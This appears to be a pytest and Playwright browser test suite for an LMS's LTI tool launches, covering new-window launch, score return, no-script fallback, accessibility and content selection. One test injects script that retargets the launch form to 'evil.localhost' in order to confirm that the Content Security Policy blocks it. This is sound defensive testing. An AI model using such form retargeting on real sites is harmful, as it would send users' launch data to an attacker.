"""C14 in a real browser: a tool by others on another site, its window, its score, its choice of content; policies hold."""

import pytest
from django.core.cache import cache
from playwright.sync_api import expect

from lms.accounts.enums import Role
from lms.lti.models import ToolContent
from tests.lti.help import lesson_with, person, tool_with
from tests.lti.tool_by_others import OutsideTool

from .crawl import AXE, RULES
from .packages_help import Place

# Threads that serve pages and a test that asks beside them: SQLite in memory locks whole tables.
pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.postgresql]
AT = "2026-11-25T10:00:00.000+00:00"


@pytest.fixture
def outside():
    there = OutsideTool()
    yield there
    there.close()


@pytest.fixture
def place(chromium, live_server, settings):
    cache.clear()
    made = Place(chromium, live_server.url, settings)
    settings.ALLOWED_INNER_HOSTS = ["127.0.0.1", "localhost"]
    yield made
    made.close()


@pytest.fixture
def tool(place, outside):
    """On another host than the site: what browsers keep back between sites, they keep back here."""
    fields = {
        name: [one.replace("127.0.0.1", "localhost") for one in value] if isinstance(value, list)
        else value.replace("127.0.0.1", "localhost") if name != "keyset_url" else value
        for name, value in outside.fields().items()
    }  # fmt: skip
    outside.host = fields["target_url"].rpartition("/")[0]
    made = tool_with(name="Outil d’un autre", **fields)
    outside.register(made, place.site)
    return made


def troubles_of(page):
    page.evaluate(AXE)
    result = page.evaluate(f"axe.run(document, {RULES})")
    wide = page.evaluate("document.documentElement.scrollWidth")
    return [one["id"] for one in result["violations"]] + ([f"{wide} px"] if wide > 321 else [])


def opened(context, page, button):
    """The new window that a button opens."""
    with context.expect_page() as waiting:
        page.get_by_role("button", name=button).click()
    return waiting.value


def test_c14_opens_in_a_window_of_its_own_and_its_score_is_seen(place, tool, outside):
    lesson = lesson_with(tool, done_when="passed", mark="70")
    context = place.person(person(), viewport={"width": 320, "height": 700})
    page = context.new_page()
    page.goto(lesson.url)
    assert troubles_of(page) == []
    window = opened(context, page, "Ouvrir dans une nouvelle fenêtre")
    expect(window.get_by_role("heading")).to_contain_text("Bonjour p-")
    assert window.url == f"{outside.host}/lancer"
    assert window.evaluate("window.opener") is None
    assert outside.said == []
    outside.send_score(8, 10, AT)
    page.reload()
    expect(page.locator(".stage")).to_contain_text("8/10")
    assert troubles_of(page) == []


def test_c14_without_script_two_buttons_lead_there(place, tool, outside):
    lesson = lesson_with(tool)
    context = place.person(person(), java_script_enabled=False)
    page = context.new_page()
    page.goto(lesson.url)
    window = opened(context, page, "Ouvrir dans une nouvelle fenêtre")
    for _step in range(2):
        window.get_by_role("button", name="Continuer vers l’outil").click()
        window.wait_for_load_state()
    expect(window.get_by_role("heading")).to_contain_text("Bonjour p-")


def test_the_page_on_the_way_can_be_read_and_leads_nowhere_else(place, tool):
    lesson = lesson_with(tool)
    context = place.person(person(), viewport={"width": 320, "height": 700})
    context.route("**/post-on.js", lambda route: route.abort())
    page = context.new_page()
    page.goto(lesson.url)
    window = opened(context, page, "Ouvrir dans une nouvelle fenêtre")
    expect(window.get_by_role("button", name="Continuer vers l’outil")).to_be_visible()
    assert troubles_of(window) == []
    refused = []
    window.on("console", lambda message: refused.append(message.text))
    window.evaluate(
        "form => { form.action = 'http://evil.localhost:9/'; form.requestSubmit() }",
        window.query_selector("form[data-post-on]"),
    )
    window.wait_for_timeout(300)
    assert any("form-action" in words for words in refused), refused


def test_c14_an_editor_chooses_in_the_tool(place, tool, outside):
    editor = person(Role.EDITOR)
    context = place.person(editor)
    page = context.new_page()
    page.goto(f"/gestion/outils/{tool.pk}/")
    window = opened(context, page, "Choisir un contenu dans l’outil")
    expect(window.get_by_role("status").filter(has_text="1 contenu a été ajouté")).to_be_visible()
    assert outside.said == []
    assert ToolContent.objects.get(chosen_by=editor).custom == {"cas": "7"}
